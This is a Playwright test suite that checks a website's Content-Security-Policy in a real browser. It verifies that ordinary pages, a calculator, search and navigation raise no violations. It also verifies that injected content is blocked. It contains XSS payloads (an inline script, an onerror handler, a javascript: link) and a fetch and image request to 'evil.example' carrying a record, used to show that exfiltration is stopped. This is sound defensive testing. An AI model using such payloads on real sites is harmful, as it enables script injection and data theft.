"""The Content-Security-Policy in a real browser: it stops what is injected, and normal use never offends it."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.browser.calculators import Calculator
from tests.browser.conftest import Complaints

Open = Callable[[str], Page]
pytestmark = pytest.mark.parametrize("screen", ["1280"])

LISTEN = """
globalThis.violations = [];
addEventListener("securitypolicyviolation", (event) => {
  violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""
INJECTED = """<script>globalThis.ran = "script"</script>
<img src="data:image/png;base64," onerror="globalThis.ran = 'handler'">
<a id="injected" href="javascript:void(globalThis.ran = 'address')">x</a>"""


@pytest.fixture
def page(context: BrowserContext, complaints: Complaints) -> Page:
    """A page that notes every violation, from its first script on."""
    page = context.new_page()
    page.add_init_script(LISTEN)
    return page


def violations(page: Page) -> Any:
    """What the policy has stopped on this page."""
    return page.evaluate("violations")


@pytest.mark.parametrize(
    "path",
    [
        "",
        "policies/",
        "compare/",
        "glossary/",
        "coverage/",
        "authoring/",
        "offline/",
        "verify/",
        "hosting/",
        "nowhere/",
    ],
)
def test_reading_offends_nothing(open_page: Open, complaints: Complaints, path: str):
    """Every kind of page, also the one for what is not there, loads all it wants to load."""
    complaints.allow("404")
    page = open_page(path)
    page.wait_for_load_state("networkidle")
    assert violations(page) == []


def test_calculating_offends_nothing(open_page: Open):
    """Python starts and answers under the policy, WebAssembly included."""
    page = open_page("policies/school-21art/")
    calculator = Calculator(page)
    calculator.choose("现任班主任", "是")
    calculator.type("累计任职年限", "12")
    calculator.expect_value("S21-16", "800")
    assert violations(page) == []


def test_searching_offends_nothing(open_page: Open):
    """The search's worker and window live under the policy."""
    page = open_page("")
    page.get_by_role("button", name="搜索").click()
    page.get_by_role("textbox", name="搜索条文").press_sequentially("坐班")
    expect(page.get_by_role("dialog", name="搜索").locator("ol a").first).to_be_visible()
    assert violations(page) == []


def test_going_from_page_to_page_offends_nothing(open_page: Open):
    """Instant navigation brings the next page's head and scripts along; the policy stays one and the same."""
    page = open_page("")
    page.evaluate("globalThis.same = true")
    for path in ("policies/", "assess/", "compare/"):
        page.locator(f'.md-tabs a[href$="{path}"]').click()
        page.wait_for_url(f"**/{path}")
        expect(page.locator("h1")).to_be_visible()
    page.locator('label[for="__palette_1"]:visible').click()
    assert page.evaluate("globalThis.same") is True
    assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1
    assert violations(page) == []


def test_what_is_injected_does_not_run(open_page: Open, context: BrowserContext, complaints: Complaints):
    """A script, an event handler and a script address in a page's content stay dead, and are reported."""
    complaints.allow("Content Security Policy")

    def inject(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</h1>", f"</h1>{INJECTED}", 1))

    context.route("**/policies/school-21art/", inject)
    page = open_page("policies/school-21art/")
    page.locator("#injected").click()
    page.wait_for_timeout(200)
    assert page.evaluate("globalThis.ran") is None
    assert len([found for found in violations(page) if found.startswith("script-src")]) == 3


def test_nothing_is_sent_to_another_host(open_page: Open, complaints: Complaints):
    """Even a script of ours that was tricked could not carry a record away."""
    complaints.allow("Content Security Policy|Failed to fetch|evil")
    page = open_page("")
    answer = page.evaluate("fetch('https://evil.example/?record=1').then(() => 'sent', () => 'stopped')")
    assert answer == "stopped"
    page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))")
    page.wait_for_timeout(100)
    assert [found.split(":")[0] for found in violations(page)] == ["connect-src", "img-src"]
